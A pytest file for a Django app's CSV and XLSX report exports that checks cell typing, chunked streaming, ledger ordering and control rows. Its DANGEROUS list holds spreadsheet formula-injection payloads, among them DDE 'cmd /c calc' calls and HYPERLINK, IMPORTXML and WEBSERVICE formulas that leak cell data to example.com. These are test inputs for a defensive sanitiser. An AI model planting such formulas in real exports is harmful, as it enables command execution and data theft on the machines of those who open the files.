"""CSV and XLSX: what is text stays text, what is a number stays a number, and it all comes back."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import pytest
from openpyxl import load_workbook

from generations.models import LedgerEntry, Status
from generations.reports import ledger, sheets
from generations.reports.days import month_days
from generations.reports.sheets import Table, csv_chunks, safe_text, xlsx_chunks
from generations.reports.usage import Key, as_table, usage
from tests.factories import archive, make_generation

AS_OF = datetime(2026, 11, 30, 12, tzinfo=UTC)
COMMAND = "cmd|'/c calc'!A0"

DANGEROUS = [
    f"={COMMAND}",
    f"+{COMMAND}",
    f"-{COMMAND}",
    f"@SUM(1+1)*{COMMAND}",
    "=1+1",
    '=HYPERLINK("https://example.com/?leak="&A1;"Click")',
    '=IMPORTXML(CONCAT("https://example.com/";A1);"//a")',
    '=WEBSERVICE("https://example.com")',
    '=DDE("cmd";"/c calc";"1")',
    "+1",
    "-1",
    "-1+1",
    "+79991234567",
    "@name",
    "@",
    "=",
    "+",
    "-",
    "--",
    "\tword",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\rword",
    "\nword",
    "\0=1+1",
    "\0word",
    " =1+1",
    "   -1",
    " \t=1+1",
    "\u00a0=1+1",
    "\u2003+1",
    "\u3000@name",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1+1",
]
HARMLESS = ["", "word", "a=b", "a-b", "1", "0.5", "'quoted", "кот", "🐈", "a\nb", "#1", 'a,b;"c"']


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_be_a_formula_is_led_by_an_apostrophe(text):
    assert safe_text(text) == f"'{text}"
    for position in range(3):
        row = ["x", "x", "x"]
        row[position] = text
        shown = f"'{text}".replace("\0", "\ufffd")
        assert read_csv(a_table([row]))[1][position] == shown
        cell = read_xlsx(a_table([row]))[1][position]
        assert (cell.data_type, plain(cell.value)) == ("s", plain(shown))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert safe_text(text) == text
    assert read_csv(a_table([[text, "x", "x"]]))[1][0] == text
    assert (read_xlsx(a_table([[text, "x", "x"]]))[1][0].value or "") == text


def test_numbers_are_numbers_negative_ones_too():
    row = [-5, Decimal("-0.8000"), 1.5]
    assert read_csv(a_table([row]))[1][:3] == ["-5", "-0.8000", "1.5"]
    cells = read_xlsx(a_table([row]))[1][:3]
    assert [(cell.data_type, cell.value) for cell in cells] == [("n", -5), ("n", -0.8), ("n", 1.5)]


def test_days_are_days_and_moments_are_text_in_utc():
    row = [date(2026, 11, 30), AS_OF, None]
    assert read_csv(a_table([row]))[1][:3] == ["2026-11-30", "2026-11-30T12:00:00.000000Z", ""]
    cells = read_xlsx(a_table([row]))[1]
    assert cells[0].value.date() == date(2026, 11, 30)
    assert cells[1].value == "2026-11-30T12:00:00.000000Z"


@pytest.mark.parametrize("text", ["a\x01b", "a\x1fb", "a\ud800b", "a\ufffeb"])
def test_what_xml_cannot_hold_is_replaced(text):
    assert read_xlsx(a_table([[text, "x", "x"]]))[1][0].value == "a\ufffdb"
    assert read_csv(a_table([[text, "x", "x"]]))[1][0] == "a\ufffdb"


def test_the_last_row_is_the_control_row_with_its_moment():
    lines = read_csv(a_table([]))
    assert lines == [
        ["one", "two", "three", "as_of"],
        ["total", "0", "", "2026-11-30T12:00:00.000000Z"],
    ]


def test_a_long_table_comes_in_chunks(monkeypatch):
    monkeypatch.setattr(sheets, "ROWS_PER_CHUNK", 10)
    chunks = list(csv_chunks(a_table([[n, "x", "x"] for n in range(95)])))
    assert len(chunks) == 10
    assert len(b"".join(chunks).splitlines()) == 97


@pytest.mark.django_db
def test_a_report_comes_back_from_both_files(cast, data_dir):
    for user in (cast.operator, cast.stranger):
        archive(
            make_generation(by=user, status=Status.SUCCEEDED, at=datetime(2026, 11, 3, tzinfo=UTC))
        )
    report = usage(days=month_days("2026-11"), keys=[Key.DAY, Key.USER], now=AS_OF)

    lines = read_csv(as_table(report))
    assert lines[0] == ["day", "user", "generations", "credits", "usd", "seconds", "as_of"]
    assert lines[1] == ["2026-11-03", "operator", "1", "160.00", "0.8000", "5.0", ""]
    assert lines[-1][:6] == ["total", "", "2", "320.00", "1.6000", "10.0"]
    cells = read_xlsx(as_table(report))
    assert [cell.value for cell in cells[-1]][:6] == ["total", None, 2, 320, 1.6, 10]


@pytest.mark.django_db
def test_the_ledger_comes_back_in_its_order_with_its_sums(cast, monkeypatch):
    monkeypatch.setattr(ledger, "ROWS_PER_CHUNK", 3)
    made = make_generation(by=cast.operator, status=Status.SUCCEEDED)
    make_generation(by=cast.operator, status=Status.RUNNING)

    lines = read_csv(ledger.table(LedgerEntry.objects.all(), now=AS_OF))

    assert tuple(lines[0][:-1]) == ledger.COLUMNS
    assert [int(line[0]) for line in lines[1:-1]] == list(range(1, 7))
    assert UUID(lines[1][4]) == made.pk
    assert [line[7] for line in lines[1:3]] == ["-160.00", "160.00"]
    control = dict(zip(lines[0], lines[-1], strict=True))
    assert (control["seq"], control["transaction"], control["usd"]) == ("total", "6", "0.0000")
    assert ledger.chain().hash == lines[-2][-2]


@pytest.mark.django_db
def test_what_is_posted_during_an_export_is_not_in_it(cast, monkeypatch):
    monkeypatch.setattr(ledger, "ROWS_PER_CHUNK", 2)
    monkeypatch.setattr(sheets, "ROWS_PER_CHUNK", 2)
    for _ in range(3):
        make_generation(by=cast.operator)
    table = ledger.table(LedgerEntry.objects.filter(account="held"), now=AS_OF)
    chunks = csv_chunks(table)
    begun = next(chunks)
    make_generation(by=cast.operator)
    lines = (begun + b"".join(chunks)).decode().splitlines()
    assert len(lines) == 1 + 3 + 1
    assert "480.00" in lines[-1]


@pytest.mark.django_db
def test_an_empty_ledger_is_a_header_and_a_control_row(cast):
    lines = read_csv(ledger.table(LedgerEntry.objects.all(), now=AS_OF))
    assert len(lines) == 2
    assert ledger.chain() == ledger.Chain(0, "0" * 64)


def a_table(rows):
    return Table(("one", "two", "three"), rows, ("total", len(rows), None), AS_OF)


def read_csv(table):
    text = b"".join(csv_chunks(table)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(table):
    book = load_workbook(io.BytesIO(b"".join(xlsx_chunks(table))))
    return [list(row) for row in book.active.iter_rows()]


def plain(text):
    """A carriage return is a line feed in XML."""
    return text.replace("_x000D_", "\r").replace("\r\n", "\n").replace("\r", "\n")
